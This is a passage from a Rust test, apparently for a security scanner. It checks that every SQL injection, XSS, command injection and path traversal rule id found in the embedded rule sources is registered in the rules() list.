    let sources = [include_str!("sqli.rs"), include_str!("xss.rs"), include_str!("cmdi.rs"), include_str!("traversal.rs"), include_str!("mod.rs")];
    let id = regex::Regex::new(r#""((?:sqli|xss|cmdi|traversal)\.[a-z_]+)""#).unwrap();
    let listed: std::collections::HashSet<&str> = rules().iter().map(|r| r.id).collect();
    let mut seen = 0;
    for src in sources {
        for c in id.captures_iter(src) {
            seen += 1;
            assert!(listed.contains(&c[1]), "rule {} is reported but not listed in rules()", &c[1]);
        }
    }
    assert!(seen > 50, "only {seen} rule ids found in the sources");
}
